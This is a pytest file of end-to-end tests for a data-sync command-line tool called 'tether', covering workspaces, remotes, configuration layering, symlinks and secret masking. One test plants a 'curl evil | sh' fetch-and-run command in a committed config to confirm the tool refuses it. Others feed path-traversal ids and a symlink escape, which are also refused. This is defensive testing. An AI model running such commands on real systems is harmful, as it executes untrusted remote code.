"""End-to-end CLI tests: workspace, configuration, remotes, `ls`, targets, ownership, scanning.

Every error case asserts the exit code and the message (and hint where the contract has one).
"""

from __future__ import annotations

import errno
import json
import os
import shutil
import subprocess
import tomllib
from pathlib import Path

import pytest

from conftest import Result, WorkspaceFixture
from tether import sync
from tether.cli import main
from tether.errors import ExitCode

needs_git = pytest.mark.skipif(shutil.which("git") is None, reason="git is not installed")


def push(tether, ws: WorkspaceFixture, *args: str, target: str = "ns/ds", remote: str = "store") -> Result:
    return tether("push", target, remote, *args, cwd=ws.root)


def remote_tree(root: Path) -> set[str]:
    """Data files under a remote folder, relative, excluding tether's own state."""
    return {
        p.relative_to(root).as_posix() for p in root.rglob("*") if p.is_file() and ".tether" not in p.parts
    }


def diff_json(tether, target: str, remote: str = "store", *extra: str, cwd: Path) -> dict:
    r = tether("diff", target, remote, "--json", *extra, cwd=cwd)
    assert r.exit_code in (0, 1), r.output
    return json.loads(r.stdout)


def toml(path: Path) -> dict:
    return tomllib.loads(path.read_text())


def git(root: Path, *args: str) -> None:
    subprocess.run(
        ["git", "-C", str(root), "-c", "user.email=a@b", "-c", "user.name=t", *args],
        check=True,
        capture_output=True,
    )


# -- init ------------------------------------------------------------------------------------------
def test_init_creates_workspace_files(tmp_path: Path, tether) -> None:
    root = tmp_path / "proj"
    root.mkdir()
    r = tether("init", cwd=root)
    assert r.exit_code == 0, r.output
    assert "Created" in r.stdout
    cfg = toml(root / "tether.toml")
    assert cfg["tether"]["data_root"] == "data"
    assert (root / ".tether").is_dir()
    assert (root / "data").is_dir()
    assert "/.tether/" in (root / ".gitignore").read_text().splitlines()


def test_init_twice_is_harmless(tmp_path: Path, tether) -> None:
    root = tmp_path / "proj"
    root.mkdir()
    (root / ".gitignore").write_text("*.pyc")  # no trailing newline: must stay a separate line
    assert tether("init", cwd=root).exit_code == 0
    (root / "tether.toml").write_text((root / "tether.toml").read_text() + '\n[remotes.x]\nurl = "/x"\n')
    before = (root / "tether.toml").read_text()
    r = tether("init", cwd=root)
    assert r.exit_code == 0, r.output
    assert "Already a workspace" in r.stdout
    assert (root / "tether.toml").read_text() == before  # an existing config is never rewritten
    lines = (root / ".gitignore").read_text().splitlines()
    assert lines.count("/.tether/") == 1
    assert "*.pyc" in lines


def test_init_data_root_option(tmp_path: Path, tether) -> None:
    root = tmp_path / "proj"
    root.mkdir()
    r = tether("init", "--data-root", "datasets", cwd=root)
    assert r.exit_code == 0, r.output
    assert "datasets/" in r.stdout
    assert toml(root / "tether.toml")["tether"]["data_root"] == "datasets"
    assert (root / "datasets").is_dir()
    (root / "datasets" / "ns" / "ds").mkdir(parents=True)
    (root / "datasets" / "ns" / "ds" / "f.txt").write_text("x")
    r = tether("ls", cwd=root)
    assert r.exit_code == 0, r.output
    assert "ns/ds" in r.stdout


@pytest.mark.parametrize(
    "args",
    [
        ("ls",),
        ("remote", "list"),
        ("remote", "add", "x", "/tmp"),
        ("diff", "ns/ds", "store"),
        ("push", "ns/ds", "store"),
        ("pull", "ns/ds", "store"),
    ],
)
def test_outside_a_workspace_exits_2_with_init_hint(tmp_path: Path, tether, args: tuple[str, ...]) -> None:
    outside = tmp_path / "nowhere"
    outside.mkdir()
    r = tether(*args, cwd=outside)
    assert r.exit_code == 2, r.output
    assert "no tether workspace" in r.stderr
    assert "tether init" in r.stderr
    assert "Traceback" not in r.output


def test_workspace_found_from_a_subfolder(ws: WorkspaceFixture, tether) -> None:
    ws.write("sub/deeper/a.txt", "a")
    deep = ws.data / "ns/ds/sub/deeper"
    r = tether("remote", "list", cwd=deep)
    assert r.exit_code == 0, r.output
    assert "store" in r.stdout
    r = tether("push", "ns/ds", "store", cwd=deep)
    assert r.exit_code == 0, r.output
    assert ws.remote_file("sub/deeper/a.txt").read_text() == "a"


# -- remotes ---------------------------------------------------------------------------------------
def test_remote_add_plain_path_and_push(ws: WorkspaceFixture, tmp_path: Path, tether) -> None:
    other = tmp_path / "other"
    other.mkdir()
    r = tether("remote", "add", "nas", str(other), cwd=ws.root)
    assert r.exit_code == 0, r.output
    assert "Added remote nas" in r.stdout
    assert toml(ws.root / "tether.toml")["remotes"]["nas"]["url"] == str(other)
    ws.write("a.txt", "A")
    assert push(tether, ws, remote="nas").exit_code == 0
    assert (other / "ns/ds/a.txt").read_text() == "A"


def test_remote_add_relative_path_is_relative_to_the_workspace(
    ws: WorkspaceFixture, tmp_path: Path, tether
) -> None:
    (tmp_path / "rel").mkdir()
    r = tether("remote", "add", "rel", "../rel", cwd=ws.root)
    assert r.exit_code == 0, r.output
    ws.write("a.txt", "A")
    # Run from a subfolder: the stored relative URL still means <workspace>/../rel.
    sub = ws.data / "ns"
    r = tether("push", "ns/ds", "rel", cwd=sub)
    assert r.exit_code == 0, r.output
    assert (tmp_path / "rel/ns/ds/a.txt").read_text() == "A"


def test_remote_add_file_url(ws: WorkspaceFixture, tmp_path: Path, tether) -> None:
    target = tmp_path / "viaurl"
    target.mkdir()
    r = tether("remote", "add", "f", target.as_uri(), cwd=ws.root)
    assert r.exit_code == 0, r.output
    ws.write("a.txt", "A")
    assert push(tether, ws, remote="f").exit_code == 0
    assert (target / "ns/ds/a.txt").read_text() == "A"


@pytest.mark.parametrize("url", ["ssh://user@hpc.example.org/scratch/data", "s3://bucket/prefix"])
def test_remote_add_accepts_ssh_and_s3(ws: WorkspaceFixture, tether, url: str) -> None:
    r = tether("remote", "add", "far", url, cwd=ws.root)
    assert r.exit_code == 0, r.output
    assert toml(ws.root / "tether.toml")["remotes"]["far"]["url"] == url
    r = tether("remote", "list", cwd=ws.root)
    assert "far" in r.stdout and url in r.stdout


def test_remote_add_set_options_are_typed(ws: WorkspaceFixture, tether) -> None:
    r = tether(
        "remote",
        "add",
        "o",
        "s3://bucket/p",
        "--set",
        "anonymous=true",
        "--set",
        "verify=False",
        "--set",
        "jobs=16",
        "--set",
        "region=eu-west-1",
        "--set",
        "endpoint=http://localhost:9000",
        cwd=ws.root,
    )
    assert r.exit_code == 0, r.output
    opts = toml(ws.root / "tether.toml")["remotes"]["o"]
    assert opts["anonymous"] is True
    assert opts["verify"] is False
    assert opts["jobs"] == 16
    assert opts["region"] == "eu-west-1"
    assert opts["endpoint"] == "http://localhost:9000"


def test_remote_add_set_without_equals_is_usage_error(ws: WorkspaceFixture, tether) -> None:
    r = tether("remote", "add", "o", "s3://bucket/p", "--set", "novalue", cwd=ws.root)
    assert r.exit_code == 2, r.output
    assert "KEY=VALUE" in r.stderr
    assert "o" not in toml(ws.root / "tether.toml")["remotes"]


def test_remote_add_local_writes_config_local(ws: WorkspaceFixture, tether) -> None:
    before = (ws.root / "tether.toml").read_text()
    r = tether(
        "remote", "add", "mine", "s3://b/p", "--set", "secret_access_key=hunter2", "--local", cwd=ws.root
    )
    assert r.exit_code == 0, r.output
    assert "config.local.toml" in r.stdout
    assert (ws.root / "tether.toml").read_text() == before
    local = toml(ws.root / ".tether/config.local.toml")
    assert local["remotes"]["mine"] == {"url": "s3://b/p", "secret_access_key": "hunter2"}
    r = tether("remote", "list", cwd=ws.root)
    assert "mine" in r.stdout


def test_remote_add_keeps_comments_in_tether_toml(ws: WorkspaceFixture, tether) -> None:
    path = ws.root / "tether.toml"
    path.write_text("# team notes: keep me\n" + path.read_text())
    assert tether("remote", "add", "x", "/tmp", cwd=ws.root).exit_code == 0
    assert "# team notes: keep me" in path.read_text()


def test_remote_add_duplicate_name(ws: WorkspaceFixture, tether) -> None:
    before = (ws.root / "tether.toml").read_text()
    r = tether("remote", "add", "store", "/elsewhere", cwd=ws.root)
    assert r.exit_code == 2, r.output
    assert "already exists" in r.stderr
    assert "tether remote remove store" in r.stderr
    assert (ws.root / "tether.toml").read_text() == before


@pytest.mark.parametrize(
    ("url", "message"),
    [
        ("ftp://x", "unknown URL scheme 'ftp'"),
        ("http://example.org/data", "unknown URL scheme 'http'"),
        ("", "remote URL is empty"),
        ("   ", "remote URL is empty"),
        ("ssh:///no/host", "has no host"),
        ("file://otherhost/path", "names a host"),
    ],
)
def test_remote_add_bad_url(ws: WorkspaceFixture, tether, url: str, message: str) -> None:
    before = (ws.root / "tether.toml").read_text()
    r = tether("remote", "add", "bad", url, cwd=ws.root)
    assert r.exit_code == 2, r.output
    assert message in r.stderr
    assert "Traceback" not in r.output
    assert (ws.root / "tether.toml").read_text() == before


@pytest.mark.parametrize("name", ["b/ad", "-dash", "with space", "", ".hidden"])
def test_remote_add_bad_name(ws: WorkspaceFixture, tether, name: str) -> None:
    r = tether("remote", "add", "--", name, "/tmp", cwd=ws.root)  # `--`: "-dash" is a name, not an option
    assert r.exit_code == 2, r.output
    assert "is not allowed" in r.stderr
    assert "letters, digits" in r.stderr


def test_remote_list_empty(tmp_path: Path, tether) -> None:
    root = tmp_path / "p"
    root.mkdir()
    tether("init", cwd=root)
    r = tether("remote", "list", cwd=root)
    assert r.exit_code == 0
    assert "No remotes" in r.stdout
    assert "tether remote add" in r.stdout


def test_remote_show_masks_secrets(ws: WorkspaceFixture, tether) -> None:
    tether(
        "remote",
        "add",
        "cloud",
        "s3://bucket/p",
        "--set",
        "access_key_id=AKIAEXAMPLE",
        "--set",
        "secret_access_key=verysecret",
        "--set",
        "session_token=tok123",
        "--set",
        "region=us-east-1",
        "--local",
        cwd=ws.root,
    )
    r = tether("remote", "show", "cloud", cwd=ws.root)
    assert r.exit_code == 0, r.output
    assert "url: s3://bucket/p" in r.stdout
    assert "config.local.toml" in r.stdout  # where it is defined
    assert "secret_access_key: ****" in r.stdout
    assert "session_token: ****" in r.stdout
    assert "access_key_id: ****" in r.stdout
    assert "region: us-east-1" in r.stdout
    for secret in ("verysecret", "tok123", "AKIAEXAMPLE"):
        assert secret not in r.output


def test_remote_show_plain(ws: WorkspaceFixture, tether) -> None:
    r = tether("remote", "show", "store", cwd=ws.root)
    assert r.exit_code == 0, r.output
    assert "name: store" in r.stdout
    assert f"url: {ws.remote_dir}" in r.stdout
    assert "tether.toml" in r.stdout


def test_remote_remove_leaves_data(ws: WorkspaceFixture, tether) -> None:
    ws.write("a.txt", "A")
    assert push(tether, ws).exit_code == 0
    r = tether("remote", "remove", "store", cwd=ws.root)
    assert r.exit_code == 0, r.output
    assert "not touched" in r.stdout
    assert "store" not in toml(ws.root / "tether.toml").get("remotes", {})
    assert ws.remote_file("a.txt").read_text() == "A"
    r = tether("remote", "list", cwd=ws.root)
    assert "store" not in r.stdout


def test_remote_remove_local_definition(ws: WorkspaceFixture, tether) -> None:
    tether("remote", "add", "mine", "/tmp", "--local", cwd=ws.root)
    r = tether("remote", "remove", "mine", cwd=ws.root)
    assert r.exit_code == 0, r.output
    assert "mine" not in toml(ws.root / ".tether/config.local.toml").get("remotes", {})


@pytest.mark.parametrize("sub", ["show", "remove"])
def test_remote_show_remove_unknown(ws: WorkspaceFixture, tether, sub: str) -> None:
    r = tether("remote", sub, "nope", cwd=ws.root)
    assert r.exit_code == 2, r.output
    assert "unknown remote 'nope'" in r.stderr
    assert "store" in r.stderr  # lists the known ones
    assert "tether remote list" in r.stderr


# -- layered configuration -------------------------------------------------------------------------
def user_config(text: str) -> Path:
    path = Path(os.environ["TETHER_CONFIG_DIR"]) / "config.toml"
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_text(text)
    return path


def test_user_config_remote_is_visible(ws: WorkspaceFixture, tmp_path: Path, tether) -> None:
    far = tmp_path / "user_remote"
    far.mkdir()
    path = user_config(f'[remotes.team]\nurl = "{far}"\n')
    r = tether("remote", "show", "team", cwd=ws.root)
    assert r.exit_code == 0, r.output
    assert f"url: {far}" in r.stdout
    assert str(path) in r.stdout
    ws.write("a.txt", "A")
    assert push(tether, ws, remote="team").exit_code == 0
    assert (far / "ns/ds/a.txt").read_text() == "A"


def test_local_config_overrides_user_config(ws: WorkspaceFixture, tmp_path: Path, tether) -> None:
    user_dir, local_dir = tmp_path / "from_user", tmp_path / "from_local"
    user_dir.mkdir()
    local_dir.mkdir()
    user_config(f'[remotes.team]\nurl = "{user_dir}"\nregion = "user"\n')
    (ws.root / ".tether/config.local.toml").write_text(f'[remotes.team]\nurl = "{local_dir}"\n')
    r = tether("remote", "show", "team", cwd=ws.root)
    assert r.exit_code == 0, r.output
    assert f"url: {local_dir}" in r.stdout
    assert "config.local.toml" in r.stdout
    assert "region: user" in r.stdout  # tables merge key by key
    ws.write("a.txt", "A")
    assert push(tether, ws, remote="team").exit_code == 0
    assert (local_dir / "ns/ds/a.txt").read_text() == "A"
    assert not (user_dir / "ns").exists()


def test_workspace_config_overrides_user_config(ws: WorkspaceFixture, tmp_path: Path, tether) -> None:
    user_config('[remotes.store]\nurl = "/somewhere/else"\n')
    r = tether("remote", "show", "store", cwd=ws.root)
    assert f"url: {ws.remote_dir}" in r.stdout
    # A workspace setting beats a user-level one: the user's data_root is ignored.
    user_config('[tether]\ndata_root = "elsewhere"\n')
    ws.write("a.txt", "A")
    r = tether("ls", cwd=ws.root)
    assert "ns/ds" in r.stdout


def test_local_config_overrides_workspace_sync_rules(ws: WorkspaceFixture, tether) -> None:
    ws.write("keep.csv", "k")
    ws.write("scratch.tmp", "t")
    (ws.root / ".tether/config.local.toml").write_text('[sync]\nexclude = ["*.tmp"]\n')
    assert push(tether, ws).exit_code == 0
    assert remote_tree(ws.remote_dir) == {"ns/ds/keep.csv"}


@pytest.mark.parametrize("where", ["tether.toml", ".tether/config.local.toml", "user"])
def test_malformed_config_names_the_file(ws: WorkspaceFixture, tether, where: str) -> None:
    if where == "user":
        path = user_config("[remotes\nbroken = ")
    else:
        path = ws.root / where
        path.write_text("[remotes\nbroken = ")
    for args in (("remote", "list"), ("diff", "ns/ds", "store"), ("ls",)):
        r = tether(*args, cwd=ws.root)
        assert r.exit_code == 2, r.output
        assert str(path) in r.stderr
        assert "not valid TOML" in r.stderr
        assert "Traceback" not in r.output


def test_remote_without_url_is_config_error(ws: WorkspaceFixture, tether) -> None:
    (ws.root / ".tether/config.local.toml").write_text("[remotes.nourl]\nregion = 'x'\n")
    r = tether("remote", "list", cwd=ws.root)
    assert r.exit_code == 2, r.output
    assert "'nourl' has no url" in r.stderr


# -- unimplemented and unreachable remotes ---------------------------------------------------------
@pytest.mark.parametrize("command", ["push", "pull", "diff"])
def test_missing_local_remote_folder_exit_5(
    ws: WorkspaceFixture, tmp_path: Path, tether, command: str
) -> None:
    missing = tmp_path / "unmounted" / "share"
    tether("remote", "add", "nas", str(missing), cwd=ws.root)
    ws.write("a.txt", "A")
    r = tether(command, "ns/ds", "nas", cwd=ws.root)
    assert r.exit_code == 5, r.output
    assert f"{missing} does not exist" in r.stderr
    assert f"mkdir -p {missing}" in r.stderr
    assert "mount" in r.stderr
    assert not missing.exists()  # never created on the user's behalf


def test_remote_path_is_a_file_exit_5(ws: WorkspaceFixture, tmp_path: Path, tether) -> None:
    afile = tmp_path / "afile"
    afile.write_text("x")
    tether("remote", "add", "f", str(afile), cwd=ws.root)
    ws.write("a.txt", "A")
    r = push(tether, ws, remote="f")
    assert r.exit_code == 5, r.output
    assert "is a file" in r.stderr


# -- ls --------------------------------------------------------------------------------------------
def test_ls_lists_datasets_with_counts_and_bytes(ws: WorkspaceFixture, tether) -> None:
    ws.write("a.bin", b"x" * 1500)
    ws.write("sub/b.bin", b"y" * 500)
    ws.write("only.txt", "12345", dataset="other/small")
    ws.write("f.txt", "abc", dataset="flat")
    r = tether("ls", cwd=ws.root)
    assert r.exit_code == 0, r.output
    rows = {line.split()[0]: line.split()[1:] for line in r.stdout.splitlines()[1:] if line.strip()}
    assert rows["ns/ds"] == ["2", "2.0", "KB"]
    assert rows["other/small"] == ["1", "5", "B"]
    assert rows["flat"] == ["1", "3", "B"]


def test_ls_empty(ws: WorkspaceFixture, tether) -> None:
    r = tether("ls", cwd=ws.root)
    assert r.exit_code == 0
    assert "No datasets" in r.stdout


def test_ls_does_not_count_tether_state_folder(ws: WorkspaceFixture, tether) -> None:
    ws.write("a.txt", "A")
    meta = ws.data / "ns/ds/.tether"
    meta.mkdir()
    (meta / "index").write_text("zzzzzzzz")
    r = tether("ls", cwd=ws.root)
    line = next(line for line in r.stdout.splitlines() if line.strip().startswith("ns/ds"))
    assert line.split()[1:] == ["1", "1", "B"]


# -- targets ---------------------------------------------------------------------------------------
def test_target_forms_resolve_to_the_same_id(ws: WorkspaceFixture, tether) -> None:
    ws.write("a.txt", "A")
    ds_dir = ws.data / "ns/ds"
    forms = [
        ("ns/ds", ws.root),
        ("data/ns/ds", ws.root),
        ("./data/ns/ds/", ws.root),
        (str(ds_dir), ws.root),
        (str(ds_dir), ws.data / "ns/ds"),  # absolute from inside it
        (".", ds_dir),
        ("ds", ws.data / "ns"),  # relative from the namespace folder
        ("../ds", ds_dir),  # relative, from inside it
    ]
    for target, cwd in forms:
        data = diff_json(tether, target, cwd=cwd)
        assert data["dataset"] == "ns/ds", (target, cwd)
        assert [c["path"] for c in data["changes"]] == ["a.txt"], (target, cwd)


def test_flat_dataset_id(ws: WorkspaceFixture, tether) -> None:
    ws.write("f.txt", "F", dataset="flat")
    r = tether("push", "flat", "store", cwd=ws.root)
    assert r.exit_code == 0, r.output
    assert (ws.remote_dir / "flat/f.txt").read_text() == "F"
    data = diff_json(tether, ".", cwd=ws.data / "flat")
    assert data["dataset"] == "flat"


def test_dot_from_a_subfolder_of_a_dataset_is_that_subfolder(ws: WorkspaceFixture, tether) -> None:
    ws.write("sub/x.txt", "X")
    data = diff_json(tether, ".", cwd=ws.data / "ns/ds/sub")
    assert data["dataset"] == "ns/ds/sub"


def test_directory_outside_data_root(ws: WorkspaceFixture, tmp_path: Path, tether) -> None:
    outside = tmp_path / "elsewhere" / "my-set"
    outside.mkdir(parents=True)
    (outside / "x.txt").write_text("X")
    r = tether("push", str(outside), "store", cwd=ws.root)
    assert r.exit_code == 0, r.output
    assert (ws.remote_dir / "my-set/x.txt").read_text() == "X"
    r = tether("push", str(outside), "store", "--id", "team/renamed", cwd=ws.root)
    assert r.exit_code == 0, r.output
    assert (ws.remote_dir / "team/renamed/x.txt").read_text() == "X"
    assert diff_json(tether, str(outside), "store", "--id", "team/renamed", cwd=ws.root)["dataset"] == (
        "team/renamed"
    )


def test_directory_inside_workspace_but_outside_data_root(ws: WorkspaceFixture, tether) -> None:
    folder = ws.root / "results" / "run1"
    folder.mkdir(parents=True)
    (folder / "m.json").write_text("{}")
    r = tether("push", "results/run1", "store", cwd=ws.root)
    assert r.exit_code == 0, r.output
    assert (ws.remote_dir / "run1/m.json").read_text() == "{}"


@pytest.mark.parametrize("bad", ["../x", "a//b", "/abs/not/there", "a\\b", "ns/..", "ns/./ds", "a b"])
@pytest.mark.parametrize("command", ["diff", "push", "pull"])
def test_invalid_dataset_ids(ws: WorkspaceFixture, tether, bad: str, command: str) -> None:
    r = tether(command, bad, "store", cwd=ws.root)
    assert r.exit_code == 2, r.output
    assert "dataset id" in r.stderr
    assert "namespace/name" in r.stderr  # the hint shows what an id looks like
    assert "Traceback" not in r.output
    assert remote_tree(ws.remote_dir) == set()


def test_invalid_id_option(ws: WorkspaceFixture, tmp_path: Path, tether) -> None:
    outside = tmp_path / "o"
    outside.mkdir()
    (outside / "x").write_text("x")
    r = tether("push", str(outside), "store", "--id", "../escape", cwd=ws.root)
    assert r.exit_code == 2, r.output
    assert "dataset id '../escape'" in r.stderr
    assert not (ws.remote_dir.parent / "escape").exists()


def test_workspace_root_is_not_a_dataset(ws: WorkspaceFixture, tether) -> None:
    r = tether("push", ".", "store", cwd=ws.root)
    assert r.exit_code == 2, r.output
    assert "workspace itself" in r.stderr


def test_state_folder_is_not_a_dataset(ws: WorkspaceFixture, tether) -> None:
    r = tether("push", ".tether", "store", cwd=ws.root)
    assert r.exit_code == 2, r.output
    assert "state folder" in r.stderr


# -- ownership -------------------------------------------------------------------------------------
@needs_git
def test_git_tracked_files_are_not_synced(ws: WorkspaceFixture, tether) -> None:
    ws.write("README.md", "owned by git")
    ws.write("data.bin", "owned by tether")
    git(ws.root, "init", "-q")
    git(ws.root, "add", "data/ns/ds/README.md")
    git(ws.root, "commit", "-q", "-m", "readme")
    r = push(tether, ws)
    assert r.exit_code == 0, r.output
    assert remote_tree(ws.remote_dir) == {"ns/ds/data.bin"}
    data = diff_json(tether, "ns/ds", cwd=ws.root)
    assert data["changes"] == []


@needs_git
def test_git_tracked_files_synced_when_allowed(ws: WorkspaceFixture, tether) -> None:
    ws.write("README.md", "owned by git")
    ws.write("data.bin", "owned by tether")
    git(ws.root, "init", "-q")
    git(ws.root, "add", "data/ns/ds/README.md")
    git(ws.root, "commit", "-q", "-m", "readme")
    toml_path = ws.root / "tether.toml"
    toml_path.write_text(
        toml_path.read_text().replace("exclude_git_tracked = true", "exclude_git_tracked = false")
    )
    assert toml(toml_path)["sync"]["exclude_git_tracked"] is False
    assert push(tether, ws).exit_code == 0
    assert remote_tree(ws.remote_dir) == {"ns/ds/data.bin", "ns/ds/README.md"}


@needs_git
def test_pull_leaves_git_tracked_files_alone(ws: WorkspaceFixture, ws2: WorkspaceFixture, tether) -> None:
    # ws2 is not a git repository: it owns README.md as data and pushes it.
    ws2.write("README.md", "from ws2")
    ws2.write("data.bin", "D")
    assert tether("push", "ns/ds", "store", cwd=ws2.root).exit_code == 0
    # In ws, README.md belongs to git.
    ws.write("README.md", "git's copy")
    git(ws.root, "init", "-q")
    git(ws.root, "add", "data/ns/ds/README.md")
    git(ws.root, "commit", "-q", "-m", "readme")
    r = tether("pull", "ns/ds", "store", "-y", cwd=ws.root)
    assert (ws.data / "ns/ds/README.md").read_text() == "git's copy"
    assert r.exit_code == 0, r.output
    assert (ws.data / "ns/ds/data.bin").read_text() == "D"


def test_exclude_and_include_patterns(ws: WorkspaceFixture, tether) -> None:
    ws.write("keep.csv", "k")
    ws.write("nested/keep2.csv", "k2")
    ws.write("scratch.tmp", "t")
    ws.write("nested/deep.tmp", "t")
    ws.write("notes.txt", "n")
    toml_path = ws.root / "tether.toml"
    text = toml_path.read_text()
    text = text.replace('include = ["**"]', 'include = ["*.csv", "*.tmp"]').replace(
        "exclude = []", 'exclude = ["*.tmp"]'
    )
    toml_path.write_text(text)
    assert push(tether, ws).exit_code == 0
    assert remote_tree(ws.remote_dir) == {"ns/ds/keep.csv", "ns/ds/nested/keep2.csv"}
    assert diff_json(tether, "ns/ds", cwd=ws.root)["changes"] == []


def test_mirror_does_not_delete_excluded_files(ws: WorkspaceFixture, ws2: WorkspaceFixture, tether) -> None:
    ws2.write("keep.csv", "k")
    ws2.write("other.tmp", "someone else's")
    assert tether("push", "ns/ds", "store", cwd=ws2.root).exit_code == 0
    ws.write("keep.csv", "k")
    ws.write("x.csv", "x")
    toml_path = ws.root / "tether.toml"
    toml_path.write_text(toml_path.read_text().replace("exclude = []", 'exclude = ["*.tmp"]'))
    r = tether("push", "ns/ds", "store", "--mode", "mirror", "-y", "--max-delete", "100%", cwd=ws.root)
    assert r.exit_code == 0, r.output
    assert ws.remote_file("other.tmp").exists()


def test_git_and_state_folders_never_synced(ws: WorkspaceFixture, tether) -> None:
    ws.write("a.txt", "A")
    ws.write(".git/HEAD", "ref: refs/heads/main")
    ws.write(".tether/index", "not ours")
    ws.write("sub/.tether/junk", "nope")
    ws.write(".gitattributes", "kept: not the .git folder")
    assert push(tether, ws).exit_code == 0
    assert remote_tree(ws.remote_dir) == {"ns/ds/a.txt", "ns/ds/.gitattributes"}
    assert not ws.remote_file(".git").exists()
    assert not ws.remote_file("sub/.tether/junk").exists()


def test_nested_git_folder_never_synced(ws: WorkspaceFixture, tether) -> None:
    ws.write("a.txt", "A")
    ws.write("vendor/lib/.git/HEAD", "ref: refs/heads/main")
    assert push(tether, ws).exit_code == 0
    assert remote_tree(ws.remote_dir) == {"ns/ds/a.txt"}


# -- symlinks and special files --------------------------------------------------------------------
def test_symlink_refused_by_name(ws: WorkspaceFixture, tether) -> None:
    ws.write("a.txt", "A")
    os.symlink("a.txt", ws.data / "ns/ds/link-to-a")
    r = push(tether, ws)
    assert r.exit_code == 2, r.output
    assert "link-to-a" in r.stderr
    assert "symlink" in r.stderr
    assert "--skip-symlinks" in r.stderr
    assert remote_tree(ws.remote_dir) == set()
    r = tether("diff", "ns/ds", "store", cwd=ws.root)
    assert r.exit_code == 2, r.output
    assert "link-to-a" in r.stderr


def test_symlinked_directory_refused(ws: WorkspaceFixture, tmp_path: Path, tether) -> None:
    ws.write("a.txt", "A")
    outside = tmp_path / "outside"
    outside.mkdir()
    (outside / "secret.txt").write_text("S")
    os.symlink(outside, ws.data / "ns/ds/escape")
    r = push(tether, ws)
    assert r.exit_code == 2, r.output
    assert "escape" in r.stderr
    assert not ws.remote_file("escape/secret.txt").exists()


def test_skip_symlinks_pushes_the_rest_with_warning(ws: WorkspaceFixture, tether) -> None:
    ws.write("a.txt", "A")
    os.symlink("a.txt", ws.data / "ns/ds/link-to-a")
    r = push(tether, ws, "--skip-symlinks")
    assert r.exit_code == 0, r.output
    assert "warning" in r.stderr
    assert "skipped symlink link-to-a" in r.stderr
    assert remote_tree(ws.remote_dir) == {"ns/ds/a.txt"}


def test_fifo_refused_even_with_skip_symlinks(ws: WorkspaceFixture, tether) -> None:
    ws.write("a.txt", "A")
    os.mkfifo(ws.data / "ns/ds/pipe")
    for extra in ((), ("--skip-symlinks",)):
        r = push(tether, ws, *extra)
        assert r.exit_code == 2, r.output
        assert "pipe" in r.stderr
        assert "special file" in r.stderr
    assert remote_tree(ws.remote_dir) == set()


def test_debug_shows_traceback(ws: WorkspaceFixture, tether) -> None:
    r = tether("--debug", "push", "a//b", "store", cwd=ws.root)
    assert r.exit_code == 2
    assert "Traceback" in r.stderr
    r = tether("push", "a//b", "store", cwd=ws.root)
    assert "Traceback" not in r.stderr


def test_main_is_importable_entry_point(ws: WorkspaceFixture, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.chdir(ws.root)
    assert main(["--version"]) == 0
    assert main(["no-such-command"]) == 2


def test_pull_honours_exclude(ws: WorkspaceFixture, ws2: WorkspaceFixture, tether) -> None:
    ws2.write("keep.csv", "k")
    ws2.write("scratch.tmp", "someone else's scratch")
    assert tether("push", "ns/ds", "store", cwd=ws2.root).exit_code == 0
    toml_path = ws.root / "tether.toml"
    toml_path.write_text(toml_path.read_text().replace("exclude = []", 'exclude = ["*.tmp"]'))
    r = tether("pull", "ns/ds", "store", cwd=ws.root)
    assert r.exit_code == 0, r.output
    assert (ws.data / "ns/ds/keep.csv").read_text() == "k"
    r2 = tether("diff", "ns/ds", "store", cwd=ws.root)
    r3 = tether("pull", "ns/ds", "store", cwd=ws.root)
    assert (r2.exit_code, r3.exit_code) == (0, 0), r2.output + r3.output
    assert not (ws.data / "ns/ds/scratch.tmp").exists()


def test_init_rejects_empty_data_root(tmp_path: Path, tether) -> None:
    root = tmp_path / "proj"
    root.mkdir()
    r = tether("init", "--data-root", "", cwd=root)
    assert r.exit_code == 2, r.output
    assert not (root / "tether.toml").exists()  # no broken workspace left behind


@pytest.mark.parametrize(
    ("line", "key"),
    [
        ('exclude = "*.tmp"', "exclude"),
        ('include = "*.csv"', "include"),
        ('exclude_git_tracked = "no"', "exclude_git_tracked"),
    ],
)
def test_sync_rules_of_wrong_type_are_config_errors(
    ws: WorkspaceFixture, tether, line: str, key: str
) -> None:
    ws.write("keep.csv", "k")
    ws.write("x.tmp", "t")
    (ws.root / ".tether/config.local.toml").write_text(f"[sync]\n{line}\n")
    r = tether("diff", "ns/ds", "store", cwd=ws.root)
    assert r.exit_code == 2, r.output
    assert key in r.stderr
    assert "hint:" in r.stderr


def test_config_error_message_keeps_table_name(ws: WorkspaceFixture, tether) -> None:
    (ws.root / ".tether/config.local.toml").write_text('[tether]\ndata_root = ""\n')
    r = tether("ls", cwd=ws.root)
    assert r.exit_code == 2, r.output
    assert "[tether] data_root must be a non-empty string" in r.stderr


def test_quiet_drops_warnings(ws: WorkspaceFixture, tether) -> None:
    ws.write("a.txt", "A")
    os.symlink("a.txt", ws.data / "ns/ds/link")
    r = tether("-q", "push", "ns/ds", "store", "--skip-symlinks", cwd=ws.root)
    assert r.exit_code == 0, r.output
    assert "warning" not in r.stderr
    assert "Pushed" in r.stdout


def test_remote_add_keeps_secrets_and_commands_out_of_the_committed_file(
    ws: WorkspaceFixture, tether
) -> None:
    r = tether(
        "remote", "add", "r2", "s3://bucket/p",
        "--set", "region=auto",
        "--set", "secret_access_key=s3cr3t",
        "--set", "python=python3.12",
        cwd=ws.root,
    )  # fmt: skip
    assert r.exit_code == 0, r.output
    assert "config.local.toml" in r.stdout
    committed = (ws.root / "tether.toml").read_text()
    assert "s3cr3t" not in committed and "python3.12" not in committed
    assert "region" in committed
    local = ws.root / ".tether" / "config.local.toml"
    assert "s3cr3t" in local.read_text()
    assert local.stat().st_mode & 0o077 == 0
    r = tether("remote", "show", "r2", cwd=ws.root)
    assert r.exit_code == 0, r.output
    assert "s3cr3t" not in r.output


def test_help_lists_the_exit_codes(tether) -> None:
    r = tether("--help")
    assert r.exit_code == 0, r.output
    codes = ("0 ok", "1 diff", "2 usage", "3 refused", "4 verification", "5 remote", "6 locked", "7 files")
    for code in (*codes, "70 internal", "130"):
        assert code in " ".join(r.stdout.split()), code


def test_commands_in_the_committed_file_are_refused_through_the_cli(ws: WorkspaceFixture, tether) -> None:
    toml = ws.root / "tether.toml"
    toml.write_text(toml.read_text() + '\n[remotes.hpc]\nurl = "ssh://h/x"\npython = "curl evil | sh"\n')
    ws.write("a.txt", "A")
    r = tether("diff", "ns/ds", "store", cwd=ws.root)
    assert r.exit_code == 2, r.output
    assert "python" in r.stderr and "tether.toml" in r.stderr
    assert "config.local.toml" in r.stderr  # the hint says where such options belong
    assert "Traceback" not in r.output


